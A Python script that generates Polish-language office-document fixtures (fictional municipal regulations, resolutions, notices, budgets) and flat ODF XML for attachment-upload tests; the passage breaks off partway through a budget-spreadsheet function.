#!/usr/bin/env python3
"""Generate the attachment-upload test corpus in tests/fixtures/attachments/.

Everything is made here from text written for the project: nothing is downloaded.

    python3 scripts/make-attachment-fixtures.py            # (re)generate, then verify
    python3 scripts/make-attachment-fixtures.py --verify   # only verify what is there

Needs (Debian 12): libreoffice-writer-nogui libreoffice-calc-nogui
libreoffice-impress-nogui fonts-dejavu-core qpdf poppler-utils zip unzip
and from PyPI: python-docx openpyxl python-pptx pikepdf pillow pyhanko
msoffcrypto-tool cryptography.

The output is not byte-for-byte reproducible (LibreOffice stamps dates, the signing
key and ZipCrypto headers are random), but its content, markers and metadata are.
"""

import argparse
import datetime
import glob
import io
import os
import random
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from xml.sax.saxutils import escape

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
DEFAULT_OUT = os.path.join(ROOT, "tests", "fixtures", "attachments")
FIXED_DT = (2024, 5, 14, 9, 30, 0)
FIXED_DATETIME = datetime.datetime(2024, 5, 14, 9, 30, 0)

# marker word -> the one file that contains it.  STEMS are what must not appear in
# any *other* file (so inflected forms cannot leak either).
MARKERS = {
    "real/regulamin-naboru.pdf": ("kwalifikowalność", "kwalifikowaln"),
    "real/formularz-zgloszeniowy.docx": ("pełnomocnictwo", "pełnomocnictw"),
    "real/wyniki-konkursu.xlsx": ("wyróżnienie", "wyróżni"),
    "real/prezentacja-projektu.pptx": ("rewitalizacja", "rewitaliz"),
    "real/uchwala-rady.odt": ("sołectwo", "sołectw"),
    "real/budzet-gminy.ods": ("subwencja", "subwencj"),
    "real/harmonogram.odp": ("dożynki", "dożyn"),
    "real/notatka-sluzbowa.rtf": ("delegatura", "delegatur"),
    "real/komunikat.txt": ("przetarg", "przetarg"),
    "real/komunikat-cp1250.txt": ("ogłoszeniodawca", "ogłoszeniodawc"),
    "real/lista-obecnosci.csv": ("sekretarz", "sekretar"),
    # not asked for, but handy: proves text of a signed PDF is read
    "real/podpisany.pdf": ("kontrasygnata", "kontrasygnat"),
}

ALL_LETTERS = "Wszystkie polskie litery: ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ."


# --------------------------------------------------------------------------- texts

REGULAMIN_PAGES = [
    [
        ("T", "Regulamin naboru na wolne stanowisko urzędnicze"),
        ("C", "Urząd Gminy Zielona Łąka, ul. Kościuszki 12, 98-200 Zielona Łąka"),
        ("H", "§ 1. Postanowienia ogólne"),
        ("P", "1. Regulamin określa zasady i tryb przeprowadzania naboru kandydatów na wolne stanowiska urzędnicze w Urzędzie Gminy Zielona Łąka, w tym na kierownicze stanowiska urzędnicze."),
        ("P", "2. Nabór jest otwarty i konkurencyjny. Informację o wolnym stanowisku publikuje się w Biuletynie Informacji Publicznej oraz na tablicy ogłoszeń w siedzibie urzędu przez co najmniej dziesięć dni."),
        ("P", "3. Ilekroć w regulaminie jest mowa o kandydacie, należy przez to rozumieć osobę, która złożyła dokumenty aplikacyjne w terminie i miejscu wskazanym w ogłoszeniu."),
        ("H", "§ 2. Wymagania wobec kandydatów"),
        ("P", "1. Kandydat musi posiadać obywatelstwo polskie, pełną zdolność do czynności prawnych oraz korzystać z pełni praw publicznych."),
        ("P", "2. Kandydat nie może być skazany prawomocnym wyrokiem sądu za umyślne przestępstwo ścigane z oskarżenia publicznego lub umyślne przestępstwo skarbowe."),
        ("P", "3. Wymagania dodatkowe, takie jak znajomość przepisów prawa samorządowego, umiejętność obsługi komputera czy doświadczenie w pracy z mieszkańcami, określa każdorazowo ogłoszenie o naborze."),
        ("H", "§ 3. Komisja rekrutacyjna"),
        ("P", "1. Wójt powołuje komisję rekrutacyjną w składzie od trzech do pięciu osób. W pracach komisji nie może uczestniczyć osoba, która jest małżonkiem lub krewnym kandydata."),
        ("P", "2. Komisja ocenia kwalifikowalność zgłoszeń pod względem formalnym, sprawdzając kompletność dokumentów oraz spełnienie wymagań niezbędnych określonych w ogłoszeniu."),
    ],
    [
        ("H", "§ 4. Dokumenty aplikacyjne"),
        ("P", "1. Kandydat składa list motywacyjny, życiorys, kopie dokumentów potwierdzających wykształcenie i staż pracy, oświadczenie o niekaralności oraz zgodę na przetwarzanie danych osobowych."),
        ("P", "2. Dokumenty należy złożyć w zamkniętej kopercie z dopiskiem „Nabór na stanowisko ds. gospodarki komunalnej” w kancelarii urzędu lub przesłać pocztą. Decyduje data wpływu do urzędu."),
        ("P", "3. Dokumenty, które wpłyną po terminie, nie będą rozpatrywane. Zostaną odesłane nadawcy albo zniszczone po upływie trzech miesięcy."),
        ("H", "§ 5. Przebieg naboru"),
        ("P", "1. Nabór składa się z dwóch etapów: oceny formalnej złożonych dokumentów oraz rozmowy kwalifikacyjnej, którą może poprzedzić test wiedzy."),
        ("P", "2. Test wiedzy obejmuje pytania z zakresu ustawy o samorządzie gminnym, Kodeksu postępowania administracyjnego oraz ustawy o pracownikach samorządowych. Za każdą poprawną odpowiedź kandydat otrzymuje jeden punkt."),
        ("P", "3. Na rozmowę kwalifikacyjną zaprasza się kandydatów, którzy uzyskali co najmniej sześćdziesiąt procent możliwych punktów z testu. O terminie rozmowy kandydaci są zawiadamiani telefonicznie lub pocztą elektroniczną."),
        ("P", "4. Podczas rozmowy komisja sprawdza predyspozycje kandydata, jego umiejętność komunikacji oraz znajomość zadań realizowanych na danym stanowisku."),
        ("H", "§ 6. Wybór kandydata"),
        ("P", "1. Komisja wskazuje nie więcej niż pięciu najlepszych kandydatów, których przedstawia wójtowi. Wójt dokonuje ostatecznego wyboru."),
        ("P", "2. Jeżeli w miesiącu poprzedzającym datę publikacji ogłoszenia wskaźnik zatrudnienia osób niepełnosprawnych w urzędzie był niższy niż sześć procent, pierwszeństwo w zatrudnieniu przysługuje osobie niepełnosprawnej, o ile znajduje się w gronie najlepszych kandydatów."),
    ],
    [
        ("H", "§ 7. Protokół i informacja o wyniku"),
        ("P", "1. Z przeprowadzonego naboru komisja sporządza protokół zawierający liczbę kandydatów, imiona i nazwiska najlepszych z nich, zastosowane metody oceny oraz uzasadnienie dokonanego wyboru."),
        ("P", "2. Informację o wyniku naboru upowszechnia się niezwłocznie w Biuletynie Informacji Publicznej przez okres co najmniej trzech miesięcy."),
        ("H", "§ 8. Ochrona danych osobowych"),
        ("P", "1. Administratorem danych osobowych kandydatów jest Wójt Gminy Zielona Łąka. Dane są przetwarzane wyłącznie w celu przeprowadzenia naboru."),
        ("P", "2. Kandydat ma prawo dostępu do swoich danych, ich sprostowania oraz ograniczenia przetwarzania. Podanie danych w zakresie określonym w Kodeksie pracy jest obowiązkowe, a pozostałych danych dobrowolne."),
        ("H", "§ 9. Postanowienia końcowe"),
        ("P", "1. W sprawach nieuregulowanych w regulaminie stosuje się przepisy ustawy z dnia 21 listopada 2008 r. o pracownikach samorządowych."),
        ("P", "2. Regulamin wchodzi w życie z dniem podpisania."),
        ("P", "Zielona Łąka, 14 maja 2024 r."),
        ("R", "Wójt Gminy Zielona Łąka"),
        ("R", "Jan Kowalski"),
    ],
]

UCHWALA = [
    ("T", "Uchwała nr XII/87/2024 Rady Gminy Zielona Łąka z dnia 27 czerwca 2024 r."),
    ("C", "w sprawie nadania statutu jednostce pomocniczej Górki Małe"),
    ("P", "Na podstawie art. 35 ust. 1 i art. 40 ust. 2 pkt 1 ustawy z dnia 8 marca 1990 r. o samorządzie gminnym (Dz. U. z 2024 r. poz. 609) Rada Gminy Zielona Łąka uchwala, co następuje:"),
    ("P", "§ 1. Nadaje się statut jednostce pomocniczej gminy, którą jest sołectwo Górki Małe, w brzmieniu stanowiącym załącznik do niniejszej uchwały."),
    ("P", "§ 2. Organami jednostki pomocniczej są zebranie wiejskie jako organ uchwałodawczy oraz sołtys jako organ wykonawczy. Działalność sołtysa wspiera rada licząca od trzech do pięciu osób."),
    ("P", "§ 3. Zebranie wiejskie zwołuje sołtys z własnej inicjatywy, na wniosek co najmniej dziesięciu mieszkańców lub na wniosek wójta. O terminie zebrania zawiadamia się mieszkańców co najmniej siedem dni wcześniej, w sposób zwyczajowo przyjęty."),
    ("P", "§ 4. Jednostka pomocnicza gospodaruje mieniem przekazanym jej przez gminę w zakresie zwykłego zarządu oraz środkami funduszu wiejskiego, zgodnie z uchwałą zebrania wiejskiego."),
    ("P", "§ 5. Wykonanie uchwały powierza się Wójtowi Gminy Zielona Łąka."),
    ("P", "§ 6. Uchwała wchodzi w życie po upływie czternastu dni od dnia ogłoszenia w Dzienniku Urzędowym Województwa Łódzkiego."),
    ("R", "Przewodnicząca Rady Gminy"),
    ("R", "Maria Zielińska"),
]

NOTATKA = [
    ("T", "Notatka służbowa nr 14/2024"),
    ("C", "sporządzona dnia 3 października 2024 r. w Referacie Ochrony Środowiska"),
    ("P", "W dniu 2 października 2024 r. do urzędu zgłosił się mieszkaniec Lipowca, pan Tomasz Wróbel, informując o nielegalnym wysypisku odpadów w pobliżu leśnej drogi prowadzącej do żwirowni. Na miejsce udał się pracownik referatu, który potwierdził obecność około dwudziestu worków z odpadami budowlanymi oraz zużytych opon."),
    ("P", "Ustalono, że teren stanowi własność Skarbu Państwa w zarządzie nadleśnictwa. Sprawą ochrony gruntów leśnych zajmuje się delegatura Regionalnej Dyrekcji Ochrony Środowiska, której przekazano dokumentację fotograficzną."),
    ("P", "Zalecono ustawienie tablicy informacyjnej o zakazie wyrzucania śmieci oraz zwiększenie częstotliwości patroli straży gminnej w tym rejonie. Koszt uprzątnięcia odpadów, szacowany na 1 850 zł, pokryje gmina, jeżeli nie uda się ustalić sprawcy."),
    ("R", "Sporządziła: Ewa Dąbrowska, inspektor ds. ochrony środowiska"),
]

KOMUNIKAT_UTF8 = """KOMUNIKAT WÓJTA GMINY ZIELONA ŁĄKA
z dnia 10 października 2024 r.

Wójt Gminy Zielona Łąka ogłasza pierwszy przetarg ustny nieograniczony na sprzedaż
nieruchomości niezabudowanej, położonej w obrębie Lipowiec, oznaczonej jako działka
nr 214/7 o powierzchni 0,1240 ha, dla której Sąd Rejonowy w Sieradzu prowadzi księgę
wieczystą.

Cena wywoławcza: 86 000 zł (słownie: osiemdziesiąt sześć tysięcy złotych) plus podatek VAT.
Wadium: 8 600 zł, płatne do dnia 12 listopada 2024 r. na rachunek bankowy gminy.
Licytacja odbędzie się 15 listopada 2024 r. o godz. 10:00 w sali narad urzędu, pokój nr 5.

Działka jest przeznaczona w miejscowym planie zagospodarowania przestrzennego pod zabudowę
mieszkaniową jednorodzinną. Dojazd zapewnia droga gminna o nawierzchni asfaltowej, a media
(prąd, woda, gaz) znajdują się w pasie drogowym przy granicy działki.

Szczegółowe informacje można uzyskać w Referacie Gospodarki Nieruchomościami,
tel. 43 820 15 22, od poniedziałku do piątku w godzinach pracy urzędu.
"""

KOMUNIKAT_CP1250 = """OGŁOSZENIE O NABORZE WOLONTARIUSZY

Ogłoszeniodawca: Gminny Ośrodek Kultury w Zielonej Łące, ul. Szkolna 4.

Poszukujemy wolontariuszy do pomocy przy organizacji Jarmarku Bożonarodzeniowego, który
odbędzie się 14 i 15 grudnia na placu przed remizą. Zadania obejmują przygotowanie stoisk,
obsługę punktu informacyjnego, opiekę nad dziećmi w strefie zabaw oraz sprzątanie po
zakończeniu imprezy.

Od kandydatów oczekujemy życzliwości, punktualności i gotowości do pracy w zespole. Osoby
niepełnoletnie mogą zgłosić się za pisemną zgodą rodziców lub opiekunów.

Zgłoszenia przyjmujemy osobiście w biurze ośrodka lub telefonicznie pod numerem
43 820 15 17 do 30 listopada. Zapewniamy ciepły posiłek, gorącą herbatę i zaświadczenie
o odbyciu wolontariatu – przyda się przy rekrutacji do szkół średnich.

Hasło tegorocznego jarmarku: „Zażółć gęślą jaźń, czyli świąteczne łakocie dla każdego”.
""" + ALL_LETTERS + "\n"

LISTA_CSV_ROWS = [
    ["Lp.", "Imię i nazwisko", "Funkcja", "Obecność", "Podpis"],
    ["1", "Maria Zielińska", "przewodnicząca rady", "obecna", "M. Zielińska"],
    ["2", "Józef Kaczmarczyk", "wiceprzewodniczący rady", "obecny", "J. Kaczmarczyk"],
    ["3", "Tomasz Wróbel", "radny", "obecny", "T. Wróbel"],
    ["4", "Grażyna Łukasik", "radna", "nieobecna (usprawiedliwiona)", ""],
    ["5", "Halina Żurawska", "radna", "obecna", "H. Żurawska"],
    ["6", "Krzysztof Ślusarczyk", "sekretarz gminy", "obecny", "K. Ślusarczyk"],
    ["7", "Jan Kowalski", "wójt", "obecny", "J. Kowalski"],
    ["8", "Bożena Nowicka", "skarbnik gminy", "obecna", "B. Nowicka"],
]

ZASWIADCZENIE = [
    ("T", "Zaświadczenie o ukończeniu szkolenia"),
    ("P", "Zaświadcza się, że pani Katarzyna Mazur, inspektor w Referacie Oświaty, ukończyła w dniach 9–10 września 2024 r. szkolenie „Dostępność cyfrowa stron internetowych urzędu” w wymiarze szesnastu godzin dydaktycznych."),
    ("P", "Szkolenie obejmowało zasady tworzenia dokumentów dostępnych dla osób z niepełnosprawnościami, opisywanie zdjęć tekstem alternatywnym oraz sprawdzanie kontrastu barw."),
    ("P", "Dokument podpisano elektronicznie. Kontrasygnata skarbnika gminy nie jest wymagana."),
    ("R", "Zielona Łąka, 11 września 2024 r."),
]

# hostile files that are otherwise real documents carry this text (no markers)
GODZINY = [
    ("T", "Informacja o godzinach pracy urzędu"),
    ("P", "Od 1 stycznia urząd gminy jest czynny w poniedziałki, wtorki i czwartki od 7:30 do 15:30, w środy od 8:00 do 17:00, a w piątki od 7:30 do 14:00. Kasa urzędu przyjmuje wpłaty do godziny 14:30."),
    ("P", "Mieszkańcy, którzy nie mogą przyjść w tych godzinach, mogą umówić wizytę telefonicznie. Wiele spraw da się też załatwić przez elektroniczną skrzynkę podawczą."),
    ("P", "W dni świąteczne oraz 2 maja i 24 grudnia urząd będzie nieczynny. Zgłoszenia awarii wodociągu przyjmuje całodobowo dyżurny gminnego zakładu komunalnego."),
] * 3

ROZKLAD = [
    ("T", "Zmiana rozkładu jazdy autobusu gminnego"),
    ("P", "Od poniedziałku autobus linii nr 2 będzie odjeżdżał z pętli w Lipowcu o 6:40 zamiast o 6:50, aby uczniowie zdążyli na pierwszą lekcję. Kurs popołudniowy pozostaje bez zmian."),
]

MAPA = [
    ("T", "Dojazd na spotkanie informacyjne"),
    ("P", "Świetlica wiejska w Lipowcu stoi przy drodze gminnej, sto metrów za kościołem. Parking znajduje się za budynkiem, wjazd od strony boiska."),
]

BENCH_SENTENCES = [
    "Gmina Zielona Łąka leży w dolinie rzeki Warty, na skraju rozległych lasów, które od wieków dostarczały mieszkańcom drewna, grzybów i zwierzyny.",
    "Pierwsza wzmianka o osadzie pochodzi z dokumentu z {year} roku, w którym książę nadał miejscowemu klasztorowi prawo do połowu ryb.",
    "W okresie międzywojennym działały tu trzy młyny wodne, tartak, cegielnia oraz spółdzielnia mleczarska zrzeszająca ponad {n} gospodarzy.",
    "Po wojnie odbudowano zniszczony most, a w dawnym dworze urządzono szkołę rolniczą, która kształciła kolejne pokolenia młodzieży.",
    "Dziś gminę zamieszkuje około {n2} osób, z czego większość pracuje w usługach, handlu i niewielkich zakładach przetwórstwa spożywczego.",
    "Na terenie gminy znajduje się {k} szkół podstawowych, dwa przedszkola, biblioteka publiczna z filiami oraz ośrodek zdrowia.",
    "W {month} rada gminy przyjęła program ochrony powietrza, który przewiduje dopłaty do wymiany starych pieców węglowych na pompy ciepła.",
    "Mieszkańcy złożyli w tym roku {n} wniosków o dofinansowanie, a urzędnicy rozpatrzyli je w ciągu niespełna sześciu tygodni.",
    "Droga powiatowa prowadząca do miasta została poszerzona i otrzymała nową nawierzchnię, chodnik oraz oświetlenie zasilane energią słoneczną.",
    "Wzdłuż rzeki wytyczono ścieżkę przyrodniczą z tablicami opisującymi gatunki ptaków gniazdujących w starorzeczu.",
    "Najcenniejszym zabytkiem jest drewniany kościół z osiemnastego wieku, którego polichromie odnowiono dzięki zbiórce parafian.",
    "Miejscowi rolnicy uprawiają głównie zboża, ziemniaki i buraki cukrowe, a coraz częściej także borówkę amerykańską i szparagi.",
    "Zimą na zalewie działa lodowisko, a latem wypożyczalnia kajaków, z której korzystają zarówno mieszkańcy, jak i turyści z okolicznych miast.",
    "Ośrodek pomocy społecznej obejmuje opieką {n3} rodzin, zapewniając im zasiłki, posiłki dla dzieci w szkołach oraz wsparcie asystenta rodziny.",
    "W bibliotece odbywają się spotkania autorskie, lekcje dla przedszkolaków i kurs obsługi komputera dla osób starszych.",
    "Straż pożarna w {month} wyjeżdżała do akcji {k2} razy, najczęściej do pożarów traw i zalanych piwnic po ulewnych deszczach.",
    "Nowa oczyszczalnia ścieków przyjmuje dziennie około {n} metrów sześciennych ścieków z sieci kanalizacyjnej obejmującej już większość wsi.",
    "Sieć wodociągowa liczy ponad {km} kilometrów, a woda pochodzi z dwóch głębinowych ujęć położonych poza terenem zabudowanym.",
    "Gminny ośrodek kultury prowadzi zespół pieśni i tańca, orkiestrę dętą oraz pracownię ceramiki, w której powstają naczynia wypalane w piecu opalanym drewnem.",
    "Każdej wiosny uczniowie sadzą drzewa wzdłuż dróg polnych, a leśnicy uczą ich rozpoznawać ślady zwierząt i gatunki roślin chronionych.",
    "Remont sali gimnastycznej kosztował {money} zł i objął wymianę podłogi, oświetlenia oraz instalacji wentylacyjnej.",
    "Przystanki autobusowe wyposażono w tablice z rozkładem jazdy, a w centrum wsi stanęła wiata na dwadzieścia rowerów.",
    "Zebranie mieszkańców trwało ponad trzy godziny, ponieważ dyskusja o lokalizacji nowego boiska budziła wiele emocji.",
    "Urząd przypomina, że deklaracje o wysokości opłaty za gospodarowanie odpadami należy złożyć w terminie czternastu dni od zmiany danych.",
    "Odbiór odpadów wielkogabarytowych odbywa się dwa razy w roku, a zużyty sprzęt elektroniczny można oddać bezpłatnie w punkcie selektywnej zbiórki.",
    "Na skrzyżowaniu przy szkole zamontowano sygnalizację świetlną, o którą rodzice zabiegali od wielu lat.",
    "W ramach budżetu obywatelskiego mieszkańcy wybrali plac zabaw, siłownię pod chmurką i renowację kapliczki przydrożnej.",
    "Ulewa, która przeszła nad gminą w {month}, podtopiła kilkanaście gospodarstw i uszkodziła przepust pod drogą gminną.",
    "Archiwum zakładowe przechowuje akta stanu cywilnego, księgi meldunkowe i dokumentację budowlaną sięgającą lat sześćdziesiątych.",
    "Przy świetlicy wiejskiej powstał ogród społeczny, w którym seniorzy i dzieci wspólnie uprawiają warzywa oraz zioła.",
    "Koło wędkarskie co roku zarybia zalew narybkiem karpia, lina i szczupaka, a w czerwcu organizuje zawody dla dzieci.",
    "Ceny gruntów rolnych w okolicy wzrosły w ostatniej dekadzie niemal dwukrotnie, co skłania młodych rolników do dzierżawy zamiast zakupu.",
    "Pracownicy urzędu przyjmują interesantów od poniedziałku do piątku, a w środy dłużej, do godziny siedemnastej.",
    "Wiele spraw można już załatwić przez internet, korzystając z profilu zaufanego i elektronicznej skrzynki podawczej urzędu.",
    "Historyk regionalny opisał dzieje okolicznych wsi w książce, która ukazała się nakładem gminy w {year2} roku.",
    "Przedszkole otrzymało nowe pomoce dydaktyczne, a jego ogród wzbogacił się o piaskownicę z zadaszeniem i domek do zabawy.",
    "Ścieżka rowerowa łączy obecnie wszystkie większe miejscowości gminy i prowadzi dalej, aż do stacji kolejowej w sąsiednim mieście.",
    "W lesie komunalnym wyznaczono miejsca odpoczynku ze stołami, ławami i paleniskiem, z których można korzystać po uzgodnieniu z leśniczym.",
    "Radni zdecydowali o obniżeniu stawki podatku od nieruchomości dla przedsiębiorców, którzy utworzą nowe miejsca pracy.",
    "Na rynku odbywa się cotygodniowy targ, na którym okoliczni gospodarze sprzedają jaja, sery, miód i świeże pieczywo.",
    "Stary spichlerz po gruntownym remoncie stał się siedzibą muzeum regionalnego z ekspozycją narzędzi rolniczych i strojów ludowych.",
    "Mimo trudności finansowych gmina utrzymała dowóz uczniów do szkół i zapewniła im bezpłatną opiekę w świetlicach.",
    "Zielona Łąka współpracuje z partnerską gminą na Litwie; co roku odbywają się wymiany młodzieży i wspólne warsztaty muzyczne.",
    "Jesienią ruszył nabór do klubu seniora, który oferuje zajęcia ruchowe, wycieczki krajoznawcze i spotkania z lekarzem.",
    "Wójt podziękował sołtysom, radnym i pracownikom za zaangażowanie w przygotowanie gminy do zimowego utrzymania dróg.",
    "Ze względu na suszę wprowadzono czasowe ograniczenie podlewania ogródków wodą z wodociągu w godzinach największego poboru.",
    "Ogrzewanie szkoły przełączono z kotłowni olejowej na pompy ciepła, dzięki czemu rachunki za energię spadły o blisko połowę.",
    "Na cmentarzu parafialnym odnowiono groby żołnierzy poległych we wrześniu 1939 roku, a uczniowie opiekują się nimi przez cały rok.",
    "Ludność gminy starzeje się, dlatego coraz większe znaczenie mają usługi opiekuńcze i dostęp do lekarza rodzinnego.",
    "Młodzieżowa orkiestra zdobyła pierwsze miejsce w wojewódzkim przeglądzie, wykonując utwory kompozytorów polskich i marsze ludowe.",
    "Gospodarstwa agroturystyczne przyciągają rodziny z dziećmi, które chętnie jeżdżą konno, łowią ryby i uczą się wypiekać chleb.",
    "Przebudowa kanalizacji deszczowej w centrum wsi zakończyła się przed terminem, a wykonawca udzielił pięcioletniej gwarancji.",
    "Wieczorem na boisku szkolnym trenują piłkarze miejscowego klubu, a w soboty rozgrywane są mecze ligi okręgowej.",
    "W {month} zakończono inwentaryzację drzew pomnikowych; najstarszy dąb w parku dworskim ma ponad czterysta lat.",
    "Mieszkańcy coraz chętniej segregują odpady, a ilość śmieci zmieszanych zmniejszyła się w ciągu roku o {pct} procent.",
    "Żuraw przy studni na podwórzu dawnej karczmy przypomina, jak wyglądała wieś, zanim doprowadzono do niej wodociąg.",
    "Gęste jesienne mgły nad łąkami utrudniają poranny dojazd, dlatego kierowcy autobusów szkolnych wyjeżdżają kwadrans wcześniej.",
]
MONTHS_LOC = ["styczniu", "lutym", "marcu", "kwietniu", "maju", "czerwcu", "lipcu",
              "sierpniu", "wrześniu", "październiku", "listopadzie", "grudniu"]
CHAPTERS = ["Historia", "Gospodarka", "Oświata", "Drogi i wodociągi", "Kultura",
            "Przyroda", "Sprawy społeczne", "Bezpieczeństwo", "Rolnictwo", "Turystyka"]


def bench_pages(n_pages, seed):
    rng = random.Random(seed)

    def fill(s):
        return s.format(
            year=rng.randint(1250, 1480), year2=rng.randint(1995, 2023),
            n=rng.randint(120, 950), n2=f"{rng.randint(6, 12)} {rng.randint(0, 999):03d}",
            n3=rng.randint(110, 420), k=rng.randint(5, 7), k2=rng.randint(12, 60),
            month=rng.choice(MONTHS_LOC), km=rng.randint(40, 130),
            money=f"{rng.randint(300, 2400)} {rng.randint(0, 999):03d}",
            pct=rng.randint(5, 30))

    pages = []
    for p in range(1, n_pages + 1):
        paras = [("H", f"Rozdział {p}. {CHAPTERS[(p - 1) % len(CHAPTERS)]}")]
        total = 0
        while total < 2450:
            sents = []
            for _ in range(rng.randint(3, 6)):
                sents.append(fill(rng.choice(BENCH_SENTENCES)))
                total += len(sents[-1]) + 1
                if total >= 2450:
                    break
            paras.append(("P", " ".join(sents)))
        pages.append(paras)
    return pages


# ------------------------------------------------------------------- ODF helpers

NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
      'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
      'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
      'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
      'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
      'xmlns:dc="http://purl.org/dc/elements/1.1/" '
      'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"')


def odf_meta(title, creator, initial_creator):
    # (an empty title is left out: LibreOffice's RTF export writes \\title with '?' for ł, ż, ...)
    title_el = f"<dc:title>{escape(title)}</dc:title>" if title else ""
    return (f"<office:meta>{title_el}"
            f"<meta:initial-creator>{escape(initial_creator)}</meta:initial-creator>"
            f"<dc:creator>{escape(creator)}</dc:creator>"
            "<meta:creation-date>2024-05-14T09:30:00</meta:creation-date>"
            "<dc:date>2024-05-20T14:05:00</dc:date>"
            "<dc:language>pl-PL</dc:language></office:meta>")


def fodt(pages, title, creator, initial_creator, font_size="11pt"):
    """Flat ODT. pages: list of lists of (kind, text); kind T title, C centred,
    H heading, P body, R right-aligned. Each page after the first starts on a new page."""
    style_of = {"T": "Tytul", "C": "Srodek", "H": "Naglowek", "P": "Tresc", "R": "Prawo"}
    body = []
    for i, page in enumerate(pages):
        for j, (kind, text) in enumerate(page):
            st = style_of[kind]
            if i > 0 and j == 0:
                st = "PB_" + st
            body.append(f'<text:p text:style-name="{st}">{escape(text)}</text:p>')
    auto = "".join(
        f'<style:style style:name="PB_{s}" style:family="paragraph" style:parent-style-name="{s}">'
        '<style:paragraph-properties fo:break-before="page"/></style:style>'
        for s in style_of.values())
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document {NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
{odf_meta(title, creator, initial_creator)}
<office:font-face-decls>
<style:font-face style:name="DejaVu Serif" svg:font-family="'DejaVu Serif'" style:font-family-generic="roman" style:font-pitch="variable"/>
<style:font-face style:name="DejaVu Sans" svg:font-family="'DejaVu Sans'" style:font-family-generic="swiss" style:font-pitch="variable"/>
</office:font-face-decls>
<office:styles>
<style:default-style style:family="paragraph">
<style:paragraph-properties fo:margin-top="0cm" fo:margin-bottom="0.2cm" fo:line-height="115%"/>
<style:text-properties style:font-name="DejaVu Serif" fo:font-size="{font_size}" fo:language="pl" fo:country="PL"/>
</style:default-style>
<style:style style:name="Tresc" style:family="paragraph"><style:paragraph-properties fo:text-align="justify"/></style:style>
<style:style style:name="Prawo" style:family="paragraph"><style:paragraph-properties fo:text-align="end"/></style:style>
<style:style style:name="Srodek" style:family="paragraph"><style:paragraph-properties fo:text-align="center" fo:margin-bottom="0.5cm"/></style:style>
<style:style style:name="Tytul" style:family="paragraph"><style:paragraph-properties fo:text-align="center" fo:margin-bottom="0.3cm"/><style:text-properties style:font-name="DejaVu Sans" fo:font-size="15pt" fo:font-weight="bold"/></style:style>
<style:style style:name="Naglowek" style:family="paragraph"><style:paragraph-properties fo:margin-top="0.3cm" fo:keep-with-next="always"/><style:text-properties style:font-name="DejaVu Sans" fo:font-size="12pt" fo:font-weight="bold"/></style:style>
</office:styles>
<office:automatic-styles>{auto}
<style:page-layout style:name="pm1"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm" fo:margin-top="2cm" fo:margin-bottom="2cm" fo:margin-left="2.5cm" fo:margin-right="2.5cm"/></style:page-layout>
</office:automatic-styles>
<office:master-styles><style:master-page style:name="Standard" style:page-layout-name="pm1"/></office:master-styles>
<office:body><office:text>
{"".join(body)}
</office:text></office:body></office:document>
"""


def fods(sheets, title, creator, col_widths=None):
    """Flat ODS. sheets: [(name, rows)]; a cell is a str, a number, or (formula, cached value)."""

    def cell(v):
        if v is None or v == "":
            return "<table:table-cell/>"
        if isinstance(v, str):
            return f'<table:table-cell office:value-type="string"><text:p>{escape(v)}</text:p></table:table-cell>'
        formula = None
        if isinstance(v, tuple):
            formula, v = v
        fa = f' table:formula="{escape(formula)}"' if formula else ""
        shown = f"{v:,.2f}".replace(",", " ").replace(".", ",") if isinstance(v, float) else str(v)
        return (f'<table:table-cell{fa} office:value-type="float" office:value="{v}">'
                f"<text:p>{shown}</text:p></table:table-cell>")

    cols = "".join(f'<style:style style:name="co{i}" style:family="table-column">'
                   f'<style:table-column-properties style:column-width="{w}"/></style:style>'
                   for i, w in enumerate(col_widths or []))
    body = []
    for name, rows in sheets:
        body.append(f'<table:table table:name="{escape(name)}">')
        body.extend(f'<table:table-column table:style-name="co{i}"/>' for i in range(len(col_widths or [])))
        for row in rows:
            body.append("<table:table-row>" + "".join(cell(v) for v in row) + "</table:table-row>")
        body.append("</table:table>")
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<office:document {NS} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">
{odf_meta(title, creator, creator)}
<office:automatic-styles>{cols}</office:automatic-styles>
<office:body><office:spreadsheet>
{"".join(body)}
</office:spreadsheet></office:body></office:document>
"""


def budget_sheet(heading, items):
    rows = [[heading], ["Wyszczególnienie", "Plan", "Wykonanie", "Wykonanie w %"]]
    first = 3
    for i, (label, plan, done) in enumerate(items):
        r = first + i
        rows.append([label, float(plan), float(done),
                     (f"of:=ROUND([.C{r}]/[.B{r}]*100;2)", round(done / plan * 100, 2))])
    last = first + len(items) - 1
    tp, td = float(sum(x[1] for x in items)), round(sum(x[2] for x in items), 2)
    rows.append(["Razem", (f"of:=SUM([.B{first}:.B{last}])", tp), (f"of:=SUM([.C{first}:.C{last}])", td),
                 (f"of:=ROUND([.C{last + 1}]/[.B{last + 1}]*100;2)", round(td / tp * 100, 2))])
    return rows


def fods_budget():
    dochody = [
        ("Podatki i opłaty lokalne", 9850000, 10124530.17),
        ("Udział we wpływach z podatku dochodowego od osób fizycznych", 12400000, 12611842.00),
        ("Część oświatowa – subwencja ogólna z budżetu państwa", 8932114, 8932114.00),
        ("Dotacje celowe na zadania zlecone", 4215600, 4098377.45),
        ("Środki z funduszy europejskich", 3100000, 2457910.80),
    ]
    wydatki = [
        ("Oświata i wychowanie", 14250000, 13987412.60),
        ("Transport i łączność", 6300000, 5874220.15),
        ("Pomoc społeczna i rodzina", 5120000, 5033871.90),
        ("Gospodarka komunalna i ochrona środowiska", 4400000, 4187654.33),
        ("Administracja publiczna", 3950000, 3861004.12),
